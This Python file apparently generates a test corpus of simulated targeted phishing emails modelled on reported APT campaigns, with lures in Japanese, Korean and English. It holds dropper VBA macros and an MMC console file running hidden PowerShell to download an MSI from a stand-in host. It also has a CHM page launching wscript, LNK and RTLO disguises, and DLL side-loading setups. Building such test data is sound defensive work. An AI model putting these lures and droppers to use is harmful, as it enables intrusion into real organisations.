"""Targeted mail of every day, 2011 to 2025: pensions and medical costs, space, defence, politics, chips and energy; talks of several turns."""
from recipe import Recipe, auth
from making import docx, hops, pdf, program, xlsx, zipped
from kit import Fat, Iso, Lzh, Pdf, Pe, Rar4, Rar5, Rtf, SevenZip, Zip, chm, docs, icons, lnk, office, partitioned, vhd

WORD, EXCEL, PDF_RED = (43, 87, 154), (33, 115, 70), (200, 30, 30)
RTLO = "\u202e"
POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
DOCXM = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
# Macros that drop a program and a library, as the reports have them in words; nothing is in them.
DROP_VBA = """Private Sub Workbook_Activate()
    Dim a As String, n As Integer
    a = Environ("TEMP") & "\\McAfeeSv.dll"
    n = FreeFile
    Open a For Binary Access Write As #n
    Put #n, , StrConv(Worksheets("s1").Range("Z99").Text, vbFromUnicode)
    Close #n
    CreateObject("WScript.Shell").Run "rundll32.exe " & a & ",main", 0, False
End Sub
"""
MEADOW_VBA = """Private WithEvents app As Word.Application
Private Sub Document_Open()
    Set app = Word.Application
End Sub
Private Sub app_WindowSelectionChange(ByVal s As Selection)
    Dim d As String: d = Environ("ProgramData") & "\\ScnCfg"
    MkDir d
    Open d & "\\ScnCfg32.exe" For Binary As #1: Put #1, , UserForm1.TextBox1.Text: Close #1
    Open d & "\\vsodscpl.dll" For Binary As #2: Put #2, , UserForm1.TextBox2.Text: Close #2
    CreateObject("Shell.Application").ShellExecute d & "\\ScnCfg32.exe"
End Sub
"""
CONSOLE = ("<?xml version=\"1.0\"?><MMC_ConsoleFile ConsoleVersion=\"3.0\" ProgramMode=\"UserSDI\"><VisualAttributes><Icon Index=\"0\" File=\"%ProgramFiles%\\Microsoft Office\\root\\Office16\\WINWORD.EXE\"/></VisualAttributes>"
           "<StringTables><StringTable><Strings><String ID=\"5\" Refs=\"1\">Click here to open the document</String><String ID=\"8\" Refs=\"1\">// Console Root\r\nvar x=external.Document;"
           "x.ActiveView.ExecuteShellCommand('powershell','','-w hidden iwr http://m.example.invalid/a.msi -OutFile $env:TEMP\\a.msi','Minimized')</String></Strings></StringTable></StringTables></MMC_ConsoleFile>").encode()
HELP = ("<html><head><meta charset='euc-kr'></head><body>사례비 지급 의뢰서<object id='s' classid='clsid:52a2aaae-085d-4187-97ea-8c30db990436' width=1 height=1><param name='Command' value='ShortCut'>"
        "<param name='Item1' value=',wscript.exe,%USERPROFILE%\\Links\\Document.vbs http://h.example.invalid/demo'></object><script>s.Click();</script></body></html>")


def trio(put, program_name, library, data, company, what):
    """A program with a signature, the library that it loads from beside it, and what that reads."""
    put(program_name, Pe(machine=0x8664, stamp=0x5B2F1000).icon(icons.logo()).version(CompanyName=company, FileDescription=what, OriginalFilename=program_name.rsplit("/")[-1]).sign().bytes())
    put(library, Pe(machine=0x8664, dll=True, stamp=0x63C00000).bytes())
    put(data, docs.noise(36000))


def reception():
    z = Zip()
    trio(lambda n, d: z.add(n, d), "wine/wine.exe", "wine/AppvIsvSubsystems64.dll", "wine/ppcore.dll.dat", "Microsoft Corporation", "Microsoft PowerPoint")
    return z.bytes()


def study_disc():
    d = Iso(volume="STUDY")
    d.add("勉強会資料.docx.lnk", lnk("/c .\\_rsrc\\wsreset.exe", "C:\\Windows\\System32\\cmd.exe", icon="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", show=7))
    trio(lambda n, x: d.add(n, x, hidden=True), "_rsrc/wsreset.exe", "_rsrc/wslib.dll", "_rsrc/ws.ini", "Example Utilities Inc.", "Workspace helper")
    return d.add("_rsrc/勉強会資料.docx", docx("経済安全保障勉強会 資料"), hidden=True).bytes()


def grid_disk():
    f = Fat(4096)
    f.add("見学会次第(案).pdf.lnk", lnk("/c start vw\\PDFview.exe vw\\shidai.pdf", "C:\\Windows\\System32\\cmd.exe", icon="%SystemRoot%\\System32\\imageres.dll", icon_index=97, show=7), short=b"SHIDAI  LNK")
    trio(lambda n, x: f.add(n, x, attributes=0x22), "vw/PDFview.exe", "vw/pdfcore.dll", "vw/pdfcore.dat", "Example Document Co., Ltd.", "PDF viewer")
    f.add("vw/shidai.pdf", pdf("見学会 次第(案)"), attributes=0x22)
    return vhd(partitioned(f.bytes()), dynamic=True)


RECIPES = [
    Recipe("t-daily-iryouhi-lzh", "targeted", "Symantec, November 2014 (Operation CloudyOmega), and Kaspersky, August 2015 (Blue Termite): notices of medical costs against Japan",
           "A health insurance society tells of medical costs; in the .lzh the notice is a program with Word's picture.", "医療費のお知らせ(10月分)", "kenpo-jimu@itengineers-kenpo.example", name="健康保険組合",
           to="soumu@example.ac.jp", date="Tue, 04 Nov 2014 10:55:31 +0900",
           body="被保険者各位\n\n健康保険組合からのお知らせです。\n\n10月に医療機関から請求のあった医療費を、別紙のとおり通知いたします。\n確定申告の医療費控除には使用できませんのでご注意ください。\n\nなお、内容の確認は11月末までにお願いいたします。\n",
           client=("www17.rental-server.example", "198.51.100.217"), message_id="<20141104015531.1402.kenpo-jimu@itengineers-kenpo.example>",
           finish=hops("from localhost (unknown [203.0.113.143]) by www17.rental-server.example (Postfix) with ESMTPA id B21C; Tue, 04 Nov 2014 10:55:19 +0900"),
           headers=[auth("none", domain="itengineers-kenpo.example"), ("X-Mailer", "Microsoft Windows Live Mail 15.4.3502.922")],
           attach=[("医療費通知のお知らせ.lzh", Lzh(level=2).add("医療費通知のお知らせ.exe", program(icons.document(accent=WORD), 102000, stamp=0x54532000, overlay=docx("医療費通知"), FileDescription="Microsoft Word", CompanyName="Microsoft Corporation")).bytes())]),

    Recipe("t-daily-cabinet-rtlo", "targeted", "IPA, technical watch on targeted mail, 2011 and 2012: names turned round by RLO, offices of the government as senders",
           "In the name of an office of the cabinet from free mail; the end of the name in the zip is turned round.", "平成24年度 災害対策連絡会議 出席者名簿の確認について", "bousai.renraku@yahoo.co.jp", name="内閣府 防災担当",
           to="kikaku@example.ac.jp", date="Wed, 13 Jun 2012 14:06:48 +0900",
           body="関係機関 各位\n\n標記の会議の出席者名簿(案)を送付いたします。\n誤りがございましたら、6月15日(金)12時までにご連絡ください。\n\n内閣府政策統括官(防災担当)付\n", message_id="<20120613050648.77120.qmail@web4508.mail.example>",
           finish=hops("from [203.0.113.165] by web4508.mail.example via HTTP; Wed, 13 Jun 2012 14:06:46 +0900"),
           headers=[auth("pass", "pass", "none", "yahoo.co.jp"), ("X-Mailer", "YahooMailClassic/15.0.6")],
           attach=[("出席者名簿.zip", Zip().add("出席者名簿(案)" + RTLO + "slx.scr", program(icons.document(accent=EXCEL), 88000, stamp=0x4FD70000, overlay=docs.OLE)).bytes(), "application/zip")]),

    Recipe("t-daily-association-stolen", "targeted", "Yomiuri, October 2011: a letter stolen from an association of the aerospace industry comes again to a maker within hours; the wording is ours",
           "A true letter of an association, stolen, comes a second time with a PDF whose script starts the program in it.", "Fwd: コメントの取りまとめについて(再送)", "kyokai-gijutsu@koukuu-kyokai.example",
           name="協会 技術部", hard=True, to="kikaku@example.ac.jp", date="Fri, 26 Aug 2011 19:12:07 +0900",
           body="委員各位\n\n先ほどお送りした資料に誤りがありましたので、差し替えをお願いいたします。\n\n----- 元のメッセージ -----\n日時: 2011年8月26日 9:40\n件名: コメントの取りまとめについて\n\n委員各位\n概算要求に関するコメントを添付のとおり取りまとめました。\nご意見がありましたら9月2日までにお願いします。\n技術部\n",
           client=("203-0-113-8.vpn.example", "203.0.113.8"), message_id="<000c01cc63d8$0b1b9410$2152bc30$@koukuu-kyokai.example>",
           headers=[auth("none", domain="koukuu-kyokai.example"), ("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931")],
           attach=[("コメント(差替).pdf", Pdf("1.6").page(["comment"]).embed("comment.exe", program(None, 30000, stamp=0x4E570000)).script('this.exportDataObject({cName:"comment.exe",nLaunch:2});').bytes(), "application/pdf")]),

    Recipe("t-daily-rocket", "targeted", "JAXA, notices of January and March 2012: a targeted mail of July 2011, in the name of one whom the reader knew; the wording is ours",
           "A summer party from a friend's name at free mail, to one who works on rockets; a .scr in a zip.", "暑気払いのご案内(推進系有志)", "shimamoto_k@ybb.example", name="島本", hard=True,
           to="kenkyu-b@example.ac.jp", date="Wed, 06 Jul 2011 12:41:55 +0900",
           body="皆様\n\n島本です。ご無沙汰しています。\n燃焼試験も一段落しましたので、恒例の暑気払いを企画しました。\n場所と出欠は添付をご覧ください。\n\n島本\n", client=("ybbsmtp08.portal.example", "203.0.113.38"), message_id="<4E13D8A3.7050702@ybb.example>",
           finish=hops("from PC-201105 (203-0-113-41.dynamic.example [203.0.113.41]) by ybbsmtp08.portal.example with ESMTP; Wed, 06 Jul 2011 12:41:50 +0900"),
           headers=[auth("none", domain="ybb.example"), ("User-Agent", "Mozilla/5.0 (Windows; U; Windows NT 5.1) Thunderbird/3.1.11")],
           attach=[("暑気払い案内.zip", zipped(("暑気払い案内.doc                                        .scr", program(icons.document(accent=WORD), 76000, stamp=0x4E120000, overlay=docs.OLE))), "application/zip")]),

    Recipe("t-daily-china-economy", "targeted", "Trend Micro, November 2019: Operation ENDTRADE (Tick), RLO in names and papers on China's economy, from hijacked boxes to firms of defence and chemistry",
           "From the hijacked box of a colleague in China, on the trade talks; a rar with a program whose name is turned round.", "中米経済交渉の影響について(現地レポート)", "zhao.kei@sh-reiji-kagaku.example",
           name="趙(上海)", hard=True, twin="b-world-chinese", to="kikaku@example.ac.jp", charset="utf-8", date="Tue, 12 Feb 2019 17:20:36 +0800",
           body="本社 企画ご担当 様\n\nお疲れ様です。上海の趙です。\n\n先週ご依頼の現地レポートをお送りします。\n関税の引き上げが取引先の調達に与える影響を、3ページにまとめました。\n社外秘でお願いします。\n\n趙\n", client=("mail.sh-reiji-kagaku.example", "198.51.100.88"),
           message_id="<201902121720358214337@sh-reiji-kagaku.example>",
           finish=hops("from WIN-7K1B2 (unknown [203.0.113.172]) by mail.sh-reiji-kagaku.example (Coremail) with SMTP id AQAAf; Tue, 12 Feb 2019 17:20:30 +0800"),
           headers=[auth("pass", "none", "none", "sh-reiji-kagaku.example"), ("X-Mailer", "Foxmail 7.2.9.115[cn]")],
           attach=[("現地レポート.rar", Rar5().add("現地レポート_" + RTLO + "fdp.exe", program(icons.document(accent=PDF_RED), 96000, packed=True, stamp=0x5C620000, overlay=pdf("現地レポート"))).bytes(), "application/x-rar-compressed")]),

    Recipe("t-daily-dream-job", "targeted", "ClearSky, August 2020 (Operation Dream Job), and McAfee, July 2020 (North Star): offers of jobs as Word files that fetch their template",
           "In English, a recruiter offers a post at a maker of chips to an engineer; the description fetches its template.",
           "Senior Process Engineer - position profile", "talent.emily.ross@outlook.com", name="Emily Ross", hard=True, to="kenkyu-b@example.ac.jp", charset="utf-8",
           date="Thu, 13 Aug 2020 15:33:20 +0000",
           body="Dear Mr. Takanashi,\n\nIt was a pleasure to connect with you. As discussed, please find attached the profile of the position in our lithography group. The salary band is on page two.\n"
                "The document is protected; open it on a PC with Office, it does not display on phones.\n\nI am happy to arrange a call next week.\n\nEmily Ross\nTalent Acquisition\n",
           client=("apc01-hk2-obe.mail.example", "198.51.100.21"), message_id="<HK2PR04MB2211@HK2PR04MB2211.apcprd04.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.com")],
           attach=[("Position_Profile_SPE.docx", office.docx_template("https://careers.example.invalid/t/17.dotm", text="Position profile\nSenior Process Engineer"), DOCXM)]),

    Recipe("t-daily-anel", "targeted", "Trend Micro, November 2024: Earth Kasha brings ANEL back by Word files with macros (ROAMINGMOUSE); the report's came by a link, here attached",
           "An interview's questions on foreign policy from free mail; the macro waits until the reader moves the cursor.", "【ご相談】日中関係に関するインタビューの質問案", "kanbara.hensyu@gmail.com", name="神原 由香里",
           to="kenkyu-a@example.ac.jp", charset="utf-8", date="Mon, 24 Jun 2024 11:18:42 +0900",
           body="先生\n\n突然のご連絡失礼いたします。フリーで編集をしております神原と申します。\n\n秋に予定している特集で、日中関係の今後について30分ほどお話を伺えないでしょうか。\n質問案を添付いたします。ご都合の悪い質問は外していただいて構いません。\n\n神原 由香里\n",
           message_id="<CAKz3mW8uQ@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("質問案.zip", zipped(("質問案.docm", office.docm(MEADOW_VBA, text="インタビュー質問案\n1. 現状の評価"))), "application/zip")]),

    Recipe("t-daily-lodeinfo-sheet", "targeted", "JPCERT/CC, February 2021: further updates of LODEINFO; files of Office with macros to organisations in Japan; the wording is ours",
           "A list of lectures at a politicians' study meeting as a workbook with macros, from free mail.", "講演会日程表(更新)", "seisaku.kenkyukai.j@gmail.com", name="政策研究会 事務局", to="kenkyu-a@example.ac.jp",
           charset="utf-8", date="Wed, 20 Jan 2021 09:47:59 +0900",
           body="いつもお世話になっております。\n緊急事態宣言の再発出を受け、講演会の日程を変更いたしました。\n添付の日程表をご確認ください。\n\n事務局\n", message_id="<CAHq4t0VyX@mail.gmail.com>",
           finish=hops("by mail-ej1-f49.mail.example with SMTP id 6so2211ejz.5; Wed, 20 Jan 2021 09:47:57 +0900"), headers=[auth("pass", "pass", "pass", "gmail.com")],
           attach=[("講演会日程表_20210120.xlsm", office.xlsm(DROP_VBA, text="講演会日程表\n2月3日 オンライン"), "application/vnd.ms-excel.sheet.macroEnabled.12")]),

    Recipe("t-daily-fee-chm", "targeted", "AhnLab ASEC, March 2023: Kimsuky with compiled help to those who work on North Korea; the wording is ours",
           "In Korean, the form for the fee of an interview; in the rar lies compiled help whose page starts a script.", "인터뷰 사례비 지급 의뢰서 송부", "tv.pyongyang.desk@daum.net", name="북한팀 작가",
           to="kenkyu-a@example.ac.jp", charset="euc-kr", date="Mon, 06 Mar 2023 18:30:25 +0900",
           body="교수님, 안녕하십니까.\n\n지난주 인터뷰에 응해 주셔서 감사합니다.\n사례비 지급을 위해 첨부한 의뢰서를 작성하여 회신해 주시기 바랍니다.\n\n북한팀 드림\n", client=("smail-57.daum.example", "198.51.100.57"),
           message_id="<20230306183025.HM.q00000000008x@smail-57.daum.net>", headers=[auth("pass", "pass", "pass", "daum.net")],
           attach=[("사례비 지급 의뢰서.rar", Rar5().add("사례비 지급 의뢰서.chm", chm([("index.html", HELP.encode("euc-kr"))])).bytes(), "application/x-rar-compressed")]),

    Recipe("t-daily-msc-asean", "targeted", "NTT Security, July 2024: Operation ControlPlug (DarkPeony), console files against ministries in Asia; the wording is ours",
           "In English, a meeting on maritime security asks a think-tank; the agenda is a console file with Word's picture.",
           "Draft agenda - Working Group on Maritime Domain Awareness", "wg.mda.secretariat@gmail.com", name="MDA Working Group", hard=True, to="kenkyu-a@example.ac.jp", charset="us-ascii",
           date="Wed, 03 Jul 2024 13:05:17 +0700",
           body="Dear colleagues,\n\nPlease find the draft agenda of the fifth meeting in Hanoi attached. Comments on item 4 are welcome until 10 July.\n\nSecretariat\n",
           message_id="<CAOq9cX+7bQ@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com"), ("Cc", "undisclosed-recipients:;")],
           attach=[("Draft_Agenda.zip", zipped(("Draft Agenda WG-MDA 5.msc", CONSOLE)), "application/zip")]),

    Recipe("t-daily-locked-later", "targeted", "J-CRAT, report of the first half of fiscal 2018: the password in a second mail is common in targeted mail",
           "Answer to a question at an open day: a 7z whose names are locked too; the password is to come in another mail.", "ご質問への回答(加速器施設見学の件)", "furuta.s.kengaku@outlook.jp", name="古田", hard=True,
           alone=False, to="kouhou@example.ac.jp", charset="utf-8", date="Thu, 06 Sep 2018 20:35:44 +0900",
           body="広報ご担当者様\n\n先日の施設公開でお世話になった古田です。\nその際にご説明いただいた図面に気になる点があり、資料にまとめました。\n社外秘の図を含みますので暗号化しております。パスワードは別メールでお送りします。\n\n古田\n",
           client=("apac.outlook.example", "198.51.100.23"), message_id="<TYAPR01MB3301@TYAPR01MB3301.jpnprd01.prod.mail.example>", headers=[auth("pass", "pass", "pass", "outlook.jp")],
           attach=[("資料.7z", SevenZip(password="Kengaku#0906", power=10).add("資料.exe", program(icons.document(accent=PDF_RED), 40000, packed=True), locked=True).bytes(lock_header=True), "application/x-7z-compressed")]),

    Recipe("t-daily-resume-link", "targeted", "Trend Micro, April 2025: Earth Kasha in Taiwan and Japan, from hijacked boxes, links to OneDrive",
           "From a true box: the corrected CV of an applicant, as a link to a cloud's zip and nothing else.", "【修正済】履歴書", "morimoto-j@univ-minato.example", name="森本 淳", hard=True, alone=False,
           twin="b-world-cloud-share", to="jinji@example.ac.jp", charset="utf-8", date="Tue, 18 Mar 2025 16:02:31 +0900",
           body="人事課 ご担当者様\n\nお世話になっております。森本です。\n\n先日お送りした履歴書に誤りがありましたので、修正版を共有いたします。\nhttps://onedrive.example.invalid/:u:/g/personal/mj/EaQ7?download=1\n\nお手数をおかけいたしますが、差し替えをお願いいたします。\n",
           client=("mta2.univ-minato.example", "198.51.100.128"), message_id="<OSZPR01MB7790AB@univ-minato.example>",
           headers=[auth("pass", "pass", "pass", "univ-minato.example"), ("X-Mailer", "Microsoft Outlook 16.0")]),

    Recipe("t-daily-lecture-first", "targeted", "NPA and NISC, warning of 30 November 2022: lectures and interviews asked of scholars and think-tanks in the name of true organisations",
           "The first turn: whether the scholar would give a lecture; nothing is attached.", "講演のご依頼(12月・オンライン)", "takizawa.kouenkai@gmail.com", name="瀧澤 誠(国際交流財団)", hard=True, alone=False,
           to="kenkyu-a@example.ac.jp", charset="utf-8", date="Fri, 04 Nov 2022 10:10:26 +0900",
           body="先生\n\n突然のメールにて失礼いたします。国際交流財団の瀧澤と申します。\n\n弊財団では毎年12月に会員向けの講演会を開いており、本年は安全保障環境の変化について先生にお話しいただけないかと存じ、ご連絡いたしました。\n\n・日時 12月14日(水)15時から90分(Zoom)\n・謝金 5万円(税込)\n\nご検討いただけるようでしたら、実施要領をお送りいたします。\n\n瀧澤 誠\n",
           message_id="<CAFs6pQm2@mail.gmail.com>", headers=[auth("pass", "pass", "pass", "gmail.com")]),

    Recipe("t-daily-lecture-second", "targeted", "NPA and NISC, warning of 30 November 2022: after some turns a file comes, as the outline of the lecture or the questions",
           "The second turn: the outline in a zip, a shortcut that shows a genuine paper from the hidden folder beside it.", "Re: 講演のご依頼(12月・オンライン)", "takizawa.kouenkai@gmail.com", name="瀧澤 誠(国際交流財団)",
           hard=True, to="kenkyu-a@example.ac.jp", charset="utf-8", date="Tue, 08 Nov 2022 09:33:50 +0900",
           body="先生\n\nご快諾いただき誠にありがとうございます。瀧澤です。\n\n実施要領と略歴の確認用紙をお送りいたします。\n{password}\n\n略歴は11日までにご返信いただけますと幸いです。\n\n瀧澤\n\n> 瀧澤様\n> お引き受けいたします。要領をお送りください。\n",
           password_line="パスワードは kouen1214 でございます。", message_id="<CAFs6pQ9t@mail.gmail.com>",
           finish=hops("by mail-yb1-f170.mail.example with SMTP id 63so16912311ybq.4; Tue, 08 Nov 2022 09:33:48 +0900"),
           headers=[auth("pass", "pass", "pass", "gmail.com"), ("In-Reply-To", "<636904C2.6030102@example.ac.jp>"), ("References", "<CAFs6pQm2@mail.gmail.com> <636904C2.6030102@example.ac.jp>")],
           attach=[("実施要領.zip", zipped(("実施要領/講演会実施要領.docx.lnk", lnk("-w 1 -nop -c \"saps .\\doc\\1.docx; gc .\\doc\\th.db | iex\"", POWERSHELL, icon="C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", show=7)),
                                           ("実施要領/doc/1.docx", docx("講演会 実施要領")), ("実施要領/doc/th.db", docs.noise(8000)), ("実施要領/略歴確認用紙.docx", docx("略歴確認用紙", "takizawa")), password="kouen1214"), "application/zip")]),

    Recipe("t-daily-pension-seminar", "targeted", "Japan Pension Service and NISC, August 2015: the mails of May 2015, one of them an invitation to an open seminar of a committee on benefits",
           "An invitation to an open seminar on pensions from free mail, with an .lzh that holds a program.", "給付研究委員会オープンセミナーのご案内", "kyufu.iinkai@yahoo.co.jp", name="給付研究委員会",
           to="soumu@example.ac.jp", date="Mon, 18 May 2015 10:28:04 +0900",
           body="各位\n\n給付研究委員会では、下記のとおりオープンセミナーを開催いたします。\n奮ってご参加くださいますようご案内申し上げます。\n\n日時 平成27年6月12日(金)14時\n場所 都内(追ってご連絡)\n申込 添付の用紙にご記入の上、返信\n",
           message_id="<1431912484.51099.YahooMailBasic@web101.mail.example>", finish=hops("from [203.0.113.28] by web101.mail.example via HTTP; Mon, 18 May 2015 10:28:01 +0900"),
           headers=[auth("pass", "pass", "none", "yahoo.co.jp"), ("X-Mailer", "YahooMailBasic/654")],
           attach=[("給付研究委員会オープンセミナーのご案内.lzh", Lzh(level=1).add("給付研究委員会オープンセミナーのご案内.exe", program(icons.document(accent=WORD), 118000, stamp=0x55580000, overlay=docx("オープンセミナーのご案内"))).bytes())]),

    Recipe("t-daily-own-director", "targeted", "IPA, analysis of targeted mail, 2012: the reader's own organisation forged as sender; the wording is ours",
           "In the name of the own director, from a server abroad; the paper on the reform is a program in a rar.", "【部外秘】組織再編(案)について意見伺い", "shocho@example.ac.jp", name="所長 秋庭", hard=True,
           twin="b-office-notice", to="kikaku@example.ac.jp", date="Thu, 22 Nov 2012 08:03:19 +0900",
           body="企画室 各位\n\n秋庭です。\n次年度の組織再編について、理事会に諮る前に皆さんの意見を聞かせてください。\nまだ検討段階ですので取扱いに注意願います。\n\n秋庭\n", client=("mail.hotel-garden.example", "203.0.113.92"),
           message_id="<20121121230319.F41A.shocho@example.ac.jp>", headers=[("Return-Path", "<info@hotel-garden.example>"), auth("fail", domain="example.ac.jp"), ("X-Mailer", "DreamMail 4.6.9.2")],
           attach=[("組織再編案.rar", Rar4().add("組織再編(案).exe", program(icons.document(accent=WORD), 92000, stamp=0x50AC0000), unicode="組織再編(案).exe").bytes(), "application/x-rar-compressed")],
           finish=hops("from USER-PC (unknown [203.0.113.250]) by mail.hotel-garden.example with ESMTPA; Wed, 21 Nov 2012 23:03:14 +0000")),

    Recipe("t-daily-dragonok", "targeted", "Palo Alto Networks, April 2015: DragonOK against makers in Japan, programs with the pictures of sheets and PDF files",
           "To a firm's sales: a list of materials, one line; the program in the zip bears Excel's picture.", "部材単価表", "hagiwara.m@goo-mail.example", name="萩原", to="eigyo@example.co.jp",
           date="Tue, 10 Mar 2015 13:17:02 +0900",
           body="お世話になります。萩原です。\n単価表を送りますのでご確認ください。\n", client=("mx-goo.portal.example", "203.0.113.66"), message_id="<54FE6FAE.5020306@goo-mail.example>",
           finish=hops("from [203.0.113.128] by mx-goo.portal.example with HTTP; Tue, 10 Mar 2015 13:16:58 +0900"), headers=[auth("none", domain="goo-mail.example"), ("X-Mailer", "Mail for Web 2.1")],
           attach=[("部材単価表_H27.3.zip", zipped(("部材単価表_H27.3.exe", program(icons.document(accent=EXCEL), 84000, stamp=0x54FC0000, overlay=xlsx([["部材", "単価"], ["SUS304", "410"]])))), "application/zip")]),

    Recipe("t-daily-wine", "targeted", "Check Point, April 2025: APT29 invites diplomats to a tasting of wine (GRAPELOADER); the report's came by a link, here attached",
           "In English, an invitation to a tasting of wine by an embassy; in the zip lie a signed program, its library and data.",
           "Wine tasting event (update date)", "events.protocol@silry-embassy.example", name="Protocol Department", hard=True, to="shocho@example.ac.jp", charset="utf-8",
           date="Wed, 05 Mar 2025 09:40:11 +0100",
           body="Dear Madam, dear Sir,\n\nThe Minister of Foreign Affairs has the pleasure of inviting you to a diplomatic wine tasting on 20 March at 18:30. Due to the number of guests the date was "
                "changed.\nThe invitation and the list of wines are in the attached archive.\n\nR.S.V.P. by 12 March\nProtocol Department\n",
           client=("mail.silry-embassy.example", "203.0.113.160"), message_id="<67c80f2b.5510@silry-embassy.example>",
           headers=[auth("pass", "pass", "none", "silry-embassy.example"), ("User-Agent", "Roundcube Webmail/1.6.9")], attach=[("wine.zip", reception, "application/zip")]),

    Recipe("t-daily-royal-road", "targeted", "nao_sec, January 2020: An Overhead View of the Royal Road, RTF files with an object 8.t and the equation editor, by several groups against Asia",
           "A question on an electronic component from a firm's name; the .doc is an RTF with a packed object and the equation editor's (their content is noise).",
           "電子部品の輸出管理に関する照会", "export.kanri@buhin-shokai.example", name="部品商会 輸出管理室", to="kikaku@example.ac.jp", charset="utf-8", date="Tue, 22 Oct 2019 11:36:28 +0900",
           body="例示研究所 企画室 御中\n\n部品商会の輸出管理室でございます。\n\n貴所と共同で使用している測定器に、リスト規制に該当し得る部品が含まれていることがわかりました。\n照会事項を添付しますので、10月末までにご回答いただけますでしょうか。\n",
           client=("mail11.vps-hk.example", "203.0.113.111"), message_id="<201910221136281207@buhin-shokai.example>",
           finish=hops("from DESKTOP-4T1 (unknown [203.0.113.222]) by mail11.vps-hk.example (Postfix) with ESMTPA id 01F2; Tue, 22 Oct 2019 11:36:20 +0900"),
           headers=[auth("softfail", domain="buhin-shokai.example"), ("X-Mailer", "Foxmail 7.0.1.91[cn]")],
           attach=[("照会事項.doc", Rtf().text("照会事項\n1. 品名").object("Package", b"\2\0" + b"8.t\0C:\\Aaa\\tmp\\8.t\0\0\0\3\0" + docs.noise(22000)).object("Equation.3", docs.noise(2100), updates=True).bytes(), "application/msword")]),

    Recipe("t-daily-study-iso", "targeted", "Trend Micro, February 2023: Earth Yako against academia and think-tanks in Japan, archives and discs with shortcuts in Operation RestyLink; the wording is ours",
           "Papers of a study meeting on economic security as a disc: a shortcut, and hidden a signed program with library and data.", "経済安保勉強会(第3回)配布資料", "keizai.anpo.jimu@outlook.com",
           name="勉強会事務局 柏木", to="kenkyu-a@example.ac.jp", charset="utf-8", date="Thu, 21 Apr 2022 08:55:40 +0900",
           body="先生方\n\n事務局の柏木です。\n来週の勉強会の配布資料をお送りします。容量の都合でディスクイメージにしております。ダブルクリックでお開きください。\n当日の Zoom の URL は前日にお知らせします。\n\n柏木\n", client=("apc01-sg2-obe.mail.example", "198.51.100.26"),
           message_id="<SG2PR06MB0421@SG2PR06MB0421.apcprd06.prod.mail.example>",
           headers=[auth("pass", "pass", "pass", "outlook.com")], attach=[("勉強会資料.iso", study_disc, "application/octet-stream")]),

    Recipe("t-daily-grid-vhd", "targeted", "MITRE ATT&CK T1553.005 and T1574.002 (discs past the mark of the Web, libraries beside programs); the wording is ours",
           "A visit to a power station's laboratory: in a zip a virtual disk with a shortcut, a hidden viewer with library and data, and a genuine programme.",
           "次世代送電網 見学会の次第(案)について", "sakashita@denryoku-kenkyukai.example", name="電力研究会 坂下", hard=True, to="kikaku@example.ac.jp", charset="utf-8", date="Mon, 15 Jan 2024 17:23:08 +0900",
           body="例示研究所 企画室 塚田様\n\nお世話になっております。電力研究会の坂下です。\n\n2月の見学会につきまして、次第(案)を作成いたしました。\n集合時刻とバスの台数をご確認の上、19日(金)までにご返答をお願いいたします。\n\n坂下 恒雄\n", client=("out9.mailhost.example", "203.0.113.9"),
           message_id="<65A4EAB6.3040108@denryoku-kenkyukai.example>",
           finish=hops("from [203.0.113.45] (unknown [203.0.113.45]) by out9.mailhost.example (Postfix) with ESMTPSA id 4TD1; Mon, 15 Jan 2024 17:23:03 +0900"),
           headers=[auth("pass", "pass", "none", "denryoku-kenkyukai.example"), ("Reply-To", "denryoku.sakashita@mail.example")],
           attach=[("見学会次第.zip", lambda: zipped(("見学会次第(案).vhd", grid_disk())), "application/zip")]),
]
